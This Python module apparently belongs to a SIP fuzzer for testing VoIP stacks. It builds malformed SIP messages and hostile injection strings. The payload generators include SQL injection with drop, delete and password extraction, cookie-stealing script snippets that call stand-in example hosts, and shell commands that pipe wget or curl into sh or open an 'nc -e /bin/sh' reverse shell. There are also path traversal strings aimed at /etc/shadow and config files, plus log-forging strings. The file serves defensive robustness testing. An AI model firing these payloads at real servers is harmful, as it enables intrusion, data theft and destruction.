"""Content of attacks: ways to break a message (malformed) and hostile strings (injection); and legal oddities.
Relies on: sip.py, styles.py.
Relied on by: raw_attacker.py (attacks), phones.py (legal oddities only).
"""
import random
import re

import sip
from styles import alnum, digits, hexes

METHODS = (
    "INVITE|ACK|BYE|CANCEL|REGISTER|OPTIONS|MESSAGE|SUBSCRIBE|NOTIFY|PUBLISH|REFER|INFO|UPDATE|PRACK"
).split("|")
_SHAPE = re.compile(
    rb"(?:SIP/[^\r\n]*|[!%'*+\-.0-9A-Z_`a-z~]+[ \t]+[^\r\n]*[^\r\n \t][^\r\n]*[ \t]SIP/[^\r\n]*"
    rb"|(?:" + "|".join(METHODS).encode() + rb")[ \t]+(?:sips?|tel):[^\r\n]*)"
)


def has_sip_shape(data):
    """Whether the first line still tells SIP, as the project's wire room decides it."""
    return bool(_SHAPE.match(data.lstrip(b"\r\n")[:4096]))


# -- malformed -------------------------------------------------------------------------------------------


def _line(data, name, value):
    """Replaces the value of a header (by its long or compact name) in rendered bytes."""
    names = name if name not in sip.COMPACT else "%s|%s" % (name, sip.COMPACT[name])
    pattern = re.compile(rb"(?im)^((?:" + names.encode() + rb")[ \t]*:[ \t]*)[^\r\n]*(?:\r\n[ \t][^\r\n]*)*")
    if not pattern.search(data):
        return insert(data, name + ": ", value)
    return pattern.sub(lambda m: m.group(1) + value, data, count=1)


def insert(data, name, value):
    """Adds a line behind the start line's successor, so that it always lies in the header section."""
    lines = data.split(b"\r\n")
    at = min(2, len(lines) - 1)
    return b"\r\n".join(lines[:at] + [name.encode() + value] + lines[at:])


def _value(data, name):
    m = re.search(
        rb"(?im)^(?:"
        + (name if name not in sip.COMPACT else "%s|%s" % (name, sip.COMPACT[name])).encode()
        + rb")[ \t]*:[ \t]*([^\r\n]*)",
        data,
    )
    return m.group(1) if m else b""


def _start(data, change):
    first, _, rest = data.partition(b"\r\n")
    return change(first) + b"\r\n" + rest


def _remove(data, names):
    for name in names:
        every = name if name not in sip.COMPACT else "%s|%s" % (name, sip.COMPACT[name])
        data = re.sub(
            rb"(?im)^(?:" + every.encode() + rb")[ \t]*:[^\r\n]*\r\n(?:[ \t][^\r\n]*\r\n)*", b"", data
        )
    return data


def _long_value(r, d):
    name = r.choice(["From", "To", "Call-ID", "User-Agent", "Contact", "Via", "Subject"])
    filler = r.choice([b"A", b"%", b"\xff", b"../", b"a.", b"0"]) * r.randrange(400, 3000)
    return _line(d, name, _value(d, name)[:20] + filler)


def _many_headers(r, d):
    return (
        b"\r\n".join(
            [d.split(b"\r\n")[0]]
            + [
                b"X-%s: %s" % (alnum(r, 4).encode(), alnum(r, 3).encode())
                for _ in range(r.randrange(130, 260))
            ]
        )
        + b"\r\n"
        + d.partition(b"\r\n")[2]
    )


def _separators(r, d):
    name = r.choice(["Via", "From", "To", "Contact"])
    return _line(
        d,
        name,
        _value(d, name) + r.choice([b";", b",", b";=", b"=;", b"&", b"<", b">;"]) * r.randrange(3, 500),
    )


def _content_length(r, d):
    return _line(
        d,
        "Content-Length",
        r.choice(
            [
                b"-1",
                b"-%d" % r.randrange(2, 9999),
                b"99999999999",
                b"4294967296",
                b"0x3",
                b"abc",
                b"",
                b"1e3",
                b"%d" % r.randrange(3000, 65000),
                b"12 34",
                b"+0",
            ]
        ),
    )


def _cseq_number(r, d):
    method = (_value(d, "CSeq").split() or [b"OPTIONS"])[-1]
    return _line(
        d,
        "CSeq",
        r.choice([b"-1 ", b"4294967296 ", b"99999999999999999999 ", b"abc ", b"", b"1.5 ", b"0x1 ", b"1,"])
        + method,
    )


def _cseq_method(r, d):
    return _line(
        d,
        "CSeq",
        b"%d %s" % (r.randrange(1, 999), r.choice(METHODS).encode() + r.choice([b"", b"X", b" BYE"])),
    )


def _missing(r, d):
    return _remove(d, r.sample(["Via", "From", "To", "Call-ID", "CSeq"], r.randrange(1, 5)))


def _repeated(r, d):
    for _ in range(r.randrange(2, 12)):
        name = r.choice(["From", "To", "Call-ID", "CSeq", "Content-Length", "Max-Forwards"])
        d = insert(
            d,
            name + ": ",
            r.choice([_value(d, name), alnum(r, 8).encode(), b"<sip:%s@x>" % alnum(r, 4).encode()]),
        )
    return d


def _control(r, d):
    name = r.choice(["From", "To", "Call-ID", "Contact", "User-Agent"])
    v = bytearray(_value(d, name) or b"x")
    for _ in range(r.randrange(1, 9)):
        v.insert(r.randrange(len(v) + 1), r.choice([0, 0, 1, 2, 7, 8, 0x1B, 0x7F, 0x0B]))
    return _line(d, name, bytes(v))


def _not_utf8(r, d):
    name = r.choice(["From", "To", "Call-ID", "Contact", "Subject", "Via"])
    return _line(
        d, name, _value(d, name)[:30] + bytes(r.randrange(128, 256) for _ in range(r.randrange(2, 80)))
    )


def _quote(r, d):
    name = r.choice(["From", "To", "Contact"])
    return _line(
        d, name, r.choice([b'"', b'"\\', b'""" ', b'"a" "b" "']) + _value(d, name).replace(b'"', b"")
    )


def _angle(r, d):
    name = r.choice(["From", "To", "Contact"])
    v = _value(d, name)
    return _line(
        d,
        name,
        r.choice(
            [
                v.replace(b">", b""),
                v.replace(b"<", b"<<<"),
                b"<" + v,
                v + b">>",
                v.replace(b">", b"<"),
                b"<>" * 30 + v,
            ]
        ),
    )


def _bad_uri(r, d):
    uri = r.choice(
        [
            b"sip:",
            b"sip:@",
            b"sip:a@@b",
            b"sip:a@b:99999999",
            b"sip:a@[::1",
            b"sip:%",
            b"sip:a@b;;;=;",
            b"sip:a b@c",
            b"sip:<a>@b",
            b"sip:a@b:port",
            b"sip::@",
            b"sip:a@-..-",
            b"sip:a@b?x?y=&&",
            b"sip:\xff\xfe@b",
            b"sip:%00%00@b",
            b"sip:a:b:c@d",
            b"sip:" + b"a" * r.randrange(300, 1500) + b"@b",
        ]
    )
    if r.random() < 0.5:
        return _start(d, lambda s: s.split(b" ")[0] + b" " + uri + b" SIP/2.0")
    return _line(d, r.choice(["From", "To", "Contact"]), b"<" + uri + b">;tag=" + alnum(r, 5).encode())


def _version(r, d):
    v = r.choice(
        [
            b"SIP/9.1",
            b"SIP/2.",
            b"SIP/",
            b"SIP/-2.0",
            b"SIP/2.0.0",
            b"SIP/22222222.0",
            b"SIP/two",
            b"SIP/2.0SIP/2.0",
        ]
    )
    return _start(d, lambda s: s.rsplit(b" ", 1)[0] + b" " + v)


def _method(r, d):
    method = d.split(b" ")[0]
    new = r.choice(
        [
            method * r.randrange(5, 60),
            method + b"-" * r.randrange(20, 300),
            method.lower(),
            b"%s" % alnum(r, r.randrange(40, 400)).encode(),
            b"*",
            method + b"%n",
            b"1" * r.randrange(20, 90),
        ]
    )
    return _start(d, lambda s: new + b" " + s.split(b" ", 1)[1])


def _bare_lf(r, d):
    head, sep, body = d.partition(b"\r\n\r\n")
    if r.random() < 0.5:
        return head.replace(b"\r\n", b"\n") + b"\n\n" + body
    lines = head.split(b"\r\n")
    return (
        lines[0]
        + b"\r\n"
        + b"".join(x + r.choice([b"\r\n", b"\n", b"\r", b"\n\r"]) for x in lines[1:])
        + b"\r\n"
        + body
    )


def _cut(r, d):
    first = d.find(b"\r\n") + 2
    head = d.find(b"\r\n\r\n")
    return d[: r.randrange(first, max(first + 1, head))]


def _no_colon(r, d):
    for _ in range(r.randrange(1, 6)):
        d = insert(
            d,
            "",
            r.choice(
                [
                    alnum(r, 20).encode(),
                    b"Via SIP/2.0/UDP x",
                    b"From",
                    b": value",
                    b"= : =",
                    b"<>",
                    b"::::",
                    b"\t\t",
                ]
            ),
        )
    return d


def _leading_space(r, d):
    lines = d.split(b"\r\n")
    for i in range(1, min(len(lines), r.randrange(2, 6))):
        lines[i] = r.choice([b" ", b"\t", b"   "]) + lines[i]
    return b"\r\n".join(lines)


def _numbers(r, d):
    name, values = r.choice(
        [
            ("Max-Forwards", [b"-1", b"99999", b"seventy", b"", b"0x46", b"7 0", b"256000000000"]),
            ("Expires", [b"-1", b"99999999999999", b"forever", b"", b"1;2", b"3600000000000"]),
            ("Max-Forwards", [b"\xff", b"70%n"]),
        ]
    )
    return _line(d, name, r.choice(values))


def _via(r, d):
    v = _value(d, "Via")
    return _line(
        d,
        "Via",
        r.choice(
            [
                b"SIP/2.0/",
                b"SIP/2.0/UDP",
                b"/2.0/UDP x;branch=z9hG4bK1",
                b"SIP/2.0/UDP ;branch=",
                b"SIP/2.0/" + alnum(r, 90).encode() + b" a",
                v.replace(b"branch", b"brunch=;"),
                b"HTTP/1.1/UDP " + v[12:],
                v.replace(b":", b":::"),
                v + b";branch=;branch=;rport=x",
                b"SIP/2.0/UDP [::g]:5060;branch=z9hG4bK-",
                b"SIP/2.0/UDP a:-1;branch=z9hG4bKx",
                b",,,," + v,
            ]
        ),
    )


def _start_spacing(r, d):
    return _start(
        d,
        lambda s: r.choice(
            [
                s.replace(b" ", b"   "),
                s.replace(b" ", b"\t"),
                s + b" junk SIP/2.0",
                s.replace(b" ", b" \t ", 1) + b"  ",
                s.split(b" ")[0] + b"  SIP/2.0 SIP/2.0",
                s.replace(b" SIP", b" <> SIP"),
            ]
        ),
    )


def _percent(r, d):
    bad = r.choice([b"%ZZ", b"%", b"%0", b"%%%", b"%u0041", b"%G1"]) * r.randrange(1, 20)
    if r.random() < 0.5:
        return _start(d, lambda s: s.replace(b"sip:", b"sip:" + bad, 1))
    return _line(d, "To", b"<sip:%s@host>" % bad)


def _digest(r, d):
    v = r.choice(
        [
            b"Digest",
            b'Digest username="',
            b"Digest " + b'a="b",' * r.randrange(60, 300),
            b"Digest nonce=" + b"f" * r.randrange(600, 3000),
            b'Digest username=="x" realm,,,=',
            b'"Digest',
            b'Digest username="a"username="b"uri="',
            b"Basic",
            b"Digest =,=,=,=",
            b"Digest \x00",
        ]
    )
    return insert(d, "Authorization: ", v)


def _sdp(r, d):
    head, _, body = d.partition(b"\r\n\r\n")
    new = (
        r.choice(
            [
                body.replace(b"=", b""),
                body.replace(b"v=0", b"v=" + b"9" * 200),
                body[::-1],
                b"m=audio " * r.randrange(10, 80),
                body.replace(b"c=IN", b"c=" + b"A" * 500),
                body.replace(b"m=audio ", b"m=audio -"),
                bytes(r.randrange(256) for _ in range(200)),
                body.replace(b"\r\n", b""),
                b"v=0\r\n" * r.randrange(20, 90),
                body + b"a=" + b"x:" * r.randrange(300, 1500),
            ]
        )
        or b"v=\r\no=\r\n"
    )
    d = _line(head + b"\r\n\r\n", "Content-Length", b"%d" % len(new))
    return _line(d, "Content-Type", b"application/sdp") + new


def _flips(r, d):
    first, end = d.find(b"\r\n") + 2, d.find(b"\r\n\r\n")
    out = bytearray(d)
    for _ in range(r.randrange(6, 50)):
        out[r.randrange(first, end)] = r.choice([r.randrange(256), ord(r.choice('<>";:@,=\\ '))])
    return bytes(out)


def _nesting(r, d):
    n = r.randrange(40, 600)
    return _line(
        d,
        r.choice(["From", "To", "Contact", "User-Agent", "Subject"]),
        r.choice([b"(" * n, b"<" * n + b">" * n, b'"' * (n | 1), b"[" * n, b"\\" * n]),
    )


def _params(r, d):
    name = r.choice(["From", "To", "Contact", "Via"])
    return _line(
        d,
        name,
        _value(d, name)
        + b"".join(
            b";%s=%s" % (alnum(r, 2).encode(), alnum(r, 2).encode()) for _ in range(r.randrange(80, 400))
        ),
    )


def _status(r, d):
    rest = d.partition(b"\r\n")[2]
    return (
        r.choice(
            [
                b"SIP/2.0 9999 Big",
                b"SIP/2.0 -1 Minus",
                b"SIP/2.0 000 Zero",
                b"SIP/2.0 abc Text",
                b"SIP/2.0",
                b"SIP/2.0  ",
                b"SIP/2.0 20 OK",
                b"SIP/2.0 200" + b" OK" * r.randrange(100, 500),
                b"SIP/7.3 200 OK",
            ]
        )
        + b"\r\n"
        + rest
    )


def _name(r, d):
    for _ in range(r.randrange(1, 5)):
        d = insert(
            d,
            r.choice(
                [
                    "Fr om",
                    "V\x01ia",
                    "To()",
                    "<Contact>",
                    "X@Y",
                    "Call/ID",
                    "",
                    '"Subject"',
                    "a" * r.randrange(300, 1200),
                ]
            )
            + ": ",
            alnum(r, 8).encode(),
        )
    return d


def _empty(r, d):
    for name in r.sample(["Via", "From", "To", "Call-ID", "CSeq", "Contact"], r.randrange(1, 5)):
        d = _line(d, name, b"")
    return d


def _star(r, d):
    return _line(
        d, "Contact", r.choice([b"*, *", b"*;expires=-1, <sip:a@b>", b"<*>", b"**", b"<sip:*@*>*", b",,,"])
    )


MALFORMED = {
    f.__name__[1:]: f
    for f in (
        _long_value,
        _many_headers,
        _separators,
        _content_length,
        _cseq_number,
        _cseq_method,
        _missing,
        _repeated,
        _control,
        _not_utf8,
        _quote,
        _angle,
        _bad_uri,
        _version,
        _method,
        _bare_lf,
        _cut,
        _no_colon,
        _leading_space,
        _numbers,
        _via,
        _start_spacing,
        _percent,
        _digest,
        _sdp,
        _flips,
        _nesting,
        _params,
        _status,
        _name,
        _empty,
        _star,
    )
}


def malformed(rng, data, kinds):
    """Breaks a well-formed message in one to three of `kinds`; what comes out differs and still has SIP's shape."""
    for _ in range(30):
        out = data
        chosen = [rng.choice(kinds) for _ in range(rng.choice([1, 1, 1, 2, 3]))]
        for kind in chosen:
            try:
                out = MALFORMED[kind](rng, out)
            except (ValueError, IndexError):
                continue  # an earlier change left nothing for this one
        if out != data and has_sip_shape(out) and len(out) < 9000:
            return out, "+".join(chosen)
    return _content_length(rng, data), "content_length"


# -- injection -------------------------------------------------------------------------------------------


def _case(rng, text):
    return rng.choice(
        [str.upper, str.lower, lambda s: "".join(rng.choice([c.upper(), c.lower()]) for c in s), lambda s: s]
    )(text)


def sql(rng):
    space = rng.choice([" ", " ", "/**/", "%20", "+", "\t"])
    n, table = rng.randrange(1, 99), rng.choice(
        ["subscriber", "users", "location", "cdrs", "sip_devices", "acc", "version"]
    )
    quote = rng.choice(["'", '"', "')", "'))", "", "%27"])
    core = rng.choice(
        [
            "or %d=%d" % (n, n),
            "or 'x'='x",
            "union select %s from %s"
            % (",".join("null1234"[rng.randrange(3) : 4] or "1" for _ in range(rng.randrange(1, 6))), table),
            "and sleep(%d)" % rng.randrange(2, 9),
            "; drop table %s" % table,
            "; update %s set password='%s'" % (table, alnum(rng, 5)),
            "and (select count(*) from %s)>0" % table,
            "or benchmark(%d,md5(1))" % (n * 10000),
            "; insert into %s values(%d)" % (table, n),
            "union all select username,ha1 from subscriber",
            "and ascii(substring((select password from %s limit 1),1,1))>%d" % (table, n),
            "; delete from %s" % table,
            "|| pg_sleep(%d)" % (n % 9),
            "or true",
            "having 1=1",
            "order by %d" % n,
        ]
    )
    return (
        rng.choice(["", alnum(rng, 4), digits(rng, 3)])
        + quote
        + space
        + _case(rng, core).replace(" ", space)
        + rng.choice(["--", "-- ", "#", ";--", "/*", "", "%23"])
    )


def script(rng):
    code = rng.choice(
        [
            "alert(%d)" % rng.randrange(99),
            "document.location='http://%s.example/?'+document.cookie" % alnum(rng, 4),
            "eval(name)",
            "fetch('//%s.example')" % alnum(rng, 3),
            "new Image().src='//x.example/'+document.cookie",
        ]
    )
    frame = rng.choice(
        [
            "<script>@</script>",
            '"><script>@</script>',
            "<img src=x onerror=@>",
            "<svg/onload=@>",
            "javascript:@",
            "'\"><body onload=@>",
            "<iframe src=javascript:@>",
            "%3Cscript%3E@%3C/script%3E",
            '<a href="javascript:@">x</a>',
            "</title><script>@</script>",
            "{{constructor.constructor('@')()}}",
        ]
    )
    return _case(rng, frame).replace("@", code)


def shell(rng):
    command = rng.choice(
        [
            "id",
            "cat /etc/passwd",
            "wget http://%s.example/x -O- | sh" % alnum(rng, 4),
            "nc -e /bin/sh 192.0.2.9 %d" % rng.randrange(1024, 9999),
            "rm -rf /tmp/x",
            "uname -a",
            "curl -s //%s.example|bash" % alnum(rng, 3),
            "ping -c %d 192.0.2.1" % rng.randrange(1, 9),
            "/usr/sbin/asterisk -rx 'core stop now'",
            "touch /tmp/%s" % alnum(rng, 3),
        ]
    )
    return rng.choice(
        [
            ";@;",
            "|@",
            "`@`",
            "$(@)",
            "&& @",
            "|| @ #",
            "%0a@",
            "; @ ;#",
            "() { :;}; @",
            "${jndi:ldap://x.example/@}",
        ]
    ).replace("@", command)


def path(rng):
    up = rng.choice(["../", "..\\", "%2e%2e%2f", "....//", "..%252f", "..%c0%af"]) * rng.randrange(3, 10)
    return (
        rng.choice(["", "/var/www/", "file:///"])
        + up
        + rng.choice(
            [
                "etc/passwd",
                "etc/shadow",
                "windows/win.ini",
                "etc/asterisk/sip.conf",
                "proc/self/environ",
                "boot.ini%00",
                "etc/kamailio/kamailio.cfg",
            ]
        )
    )


def format_string(rng):
    return rng.choice(
        ["%s", "%n", "%x", "%08x.", "%p", "%1$s", "%d%n", "%99999d", "%%%ds" % rng.randrange(10, 999)]
    ) * rng.randrange(4, 24)


def log_lines(rng):
    return (
        alnum(rng, 4)
        + rng.choice(["%0d%0a", "\\r\\n", "%0a", "%0D%0A%0D%0A", "\\n", "%E5%98%8A"])
        + rng.choice(
            [
                "NOTICE[1234]: chan_sip.c: Registration from 'admin' succeeded",
                "Nov 24 12:00:00 pbx kamailio[99]: INFO: login ok",
                "Contact: <sip:evil@192.0.2.6>",
                "WARNING: Failed to authenticate 'admin' - 10.0.0.1",
                "Set-Cookie: admin=1",
                "[ERROR] rejected by rule 0",
                "SIP/2.0 200 OK%0d%0a",
            ]
        )
    )


INJECTIONS = {
    "sql": sql,
    "script": script,
    "shell": shell,
    "path": path,
    "format": format_string,
    "log": log_lines,
}
FIELDS = [
    "from_display",
    "from_user",
    "to_user",
    "uri_user",
    "user_agent",
    "subject",
    "contact_user",
    "digest_user",
    "digest_realm",
    "call_id",
    "extra",
    "body",
    "sdp_session",
    "to_display",
    "reason",
    "organization",
    "identity",
    "contact_param",
    "via_param",
    "uri_param",
    "sdp_origin",
    "sdp_attribute",
    "call_info",
    "diversion",
]


def _in_user(payload):
    """A payload as a user part: bytes that end a URI are escaped, as the attacks of the wild do."""
    return "".join("%%%02X" % ord(c) if c in ' <>"@\t\\' or ord(c) > 126 else c for c in payload)


def _in_param(payload):
    """A payload as the value of a parameter: what ends it is escaped as well."""
    return "".join("%%%02X" % ord(c) if c in ";,=" else c for c in _in_user(payload))


def inject(message, payload, field):
    """Puts a payload into one field of a well-formed message; the message stays well-formed."""
    quoted = payload.replace("\\", "\\\\").replace('"', '\\"')
    user = _in_user(payload)

    def in_uri(value):
        return re.sub(
            r"(sips?:)[^@>;]*@|(sips?:)", lambda m: (m.group(1) or m.group(2)) + user + "@", value, count=1
        )

    def with_display(value):
        return '"%s" <%s>%s' % (
            quoted,
            sip.uri_of(value),
            ";tag=" + sip.tag_of(value) if sip.tag_of(value) else "",
        )

    if field in ("from_display", "to_display"):
        name = field[:-8].capitalize()
        message.set(name, with_display(message.get(name)))
    elif field in ("from_user", "to_user", "contact_user"):
        name = field[:-5].capitalize()
        message.set(name, in_uri(message.get(name) or "<sip:x@192.0.2.1>"))
    elif field == "uri_user":
        method, uri, version = message.start.split(" ")
        message.start = " ".join((method, in_uri(uri), version))
    elif field in ("digest_user", "digest_realm"):
        values = [quoted, "asterisk"] if field == "digest_user" else ["100", quoted]
        message.set(
            "Authorization",
            'Digest username="%s", realm="%s", nonce="%08x", uri="%s", response="%032x"'
            % (
                values[0],
                values[1],
                random.Random(payload).getrandbits(32),
                message.start.split(" ")[1],
                random.Random(payload).getrandbits(128),
            ),
        )
    elif field == "call_id":
        message.set("Call-ID", user + message.get("Call-ID"))
    elif field == "body":
        message.body = payload.encode("utf-8", "surrogateescape")
        message.set("Content-Type", "text/plain")
    elif field in ("contact_param", "via_param"):
        name = field[:-6].capitalize()
        message.set(name, "%s;x=%s" % (message.get(name) or "<sip:x@192.0.2.1>", _in_param(payload)))
    elif field == "uri_param":
        method, uri, version = message.start.split(" ")
        message.start = "%s %s;x=%s %s" % (method, uri, _in_param(payload).replace("?", "%3F"), version)
    elif field in ("identity", "diversion", "call_info"):
        name = {"identity": "P-Asserted-Identity", "diversion": "Diversion"}.get(field, "Call-Info")
        target = (
            "<http://192.0.2.1/%s>" % user if field == "call_info" else '"%s" <sip:100@192.0.2.1>' % quoted
        )
        message.set(name, target)
    elif field == "sdp_attribute" and message.body:
        message.body += b"a=label:" + payload.encode() + b"\r\n"
    elif field == "sdp_origin" and message.body:
        message.body = re.sub(rb"o=\S+", lambda m: b"o=" + user.encode(), message.body)
    elif field == "sdp_session" and message.body:
        message.body = re.sub(rb"s=[^\r\n]*", lambda m: b"s=" + payload.encode(), message.body)
    else:
        name = {
            "user_agent": "User-Agent",
            "organization": "Organization",
            "reason": "Reason",
            "extra": "X-Info",
        }.get(field, "Subject")
        message.set(name, payload if name != "Reason" else 'SIP;cause=200;text="%s"' % quoted)
    return message


# -- legal, but rare -------------------------------------------------------------------------------------


def odd(rng, message):
    """A legal message as only few stacks write it (compare RFC 4475, section 3.1.1)."""
    for _ in range(rng.randrange(1, 4)):
        kind = rng.randrange(14)
        if kind == 0:
            message.headers.append(("NewFangledHeader", 'newfangled value;param="%s"' % alnum(rng, 6)))
        elif kind == 1:
            message.headers.append(
                (
                    "Subject",
                    rng.choice(
                        [
                            "Re: 50% off? (no)",
                            "I know you're there, pick up the phone",
                            "Ça va?",
                            "=?utf-8?q?Hi?=",
                        ]
                    ),
                )
            )
        elif kind == 2:
            message.set("From", message.get("From") + ";x-param=" + alnum(rng, 4))
        elif kind == 3:
            message.headers.append(("Accept-Language", "en, de;q=0.7, fr;q=0.5"))
        elif kind == 4:
            message.headers.append(("Call-Info", "<http://www.example.net/alice/photo.jpg>;purpose=icon"))
        elif kind == 5:
            message.headers.append(("Date", sip.http_date()))
        elif kind == 6:
            message.headers.append(("Unknown-LongHeader-" + alnum(rng, 20), "a" * rng.randrange(60, 200)))
        elif kind == 7:
            message.set(
                "To",
                '"He said \\"hi\\" \\\\ there" <%s>' % sip.uri_of(message.get("To"))
                + (";tag=" + sip.tag_of(message.get("To")) if sip.tag_of(message.get("To")) else ""),
            )
        elif kind == 8:
            for i in range(rng.randrange(2, 6)):
                message.headers.append(
                    ("P-Asserted-Identity" if i == 0 else "X-Hop-%d" % i, "<sip:gw%d.example.net>" % i)
                )
        elif kind == 9:
            message.headers.append(("Timestamp", "%d.%d" % (rng.randrange(99), rng.randrange(999))))
        elif kind == 10:
            message.headers.append(("Warning", '399 example.net "It is a \\"test\\""'))
        elif kind == 11:
            message.headers.append(
                ("Reply-To", '"%s" <sip:%s@example.net>' % (rng.choice(["O'Brien", "Zoë"]), alnum(rng, 6)))
            )
        elif kind == 12:
            message.headers.append(
                ("Diversion", "<sip:%s@example.net>;reason=unconditional;counter=1" % digits(rng, 4))
            )
        else:
            message.headers.append(
                (
                    "History-Info",
                    "<sip:%s@example.net>;index=1, <sip:%s@example.net;cause=302>;index=1.1"
                    % (hexes(rng, 4), hexes(rng, 4)),
                )
            )
    return message
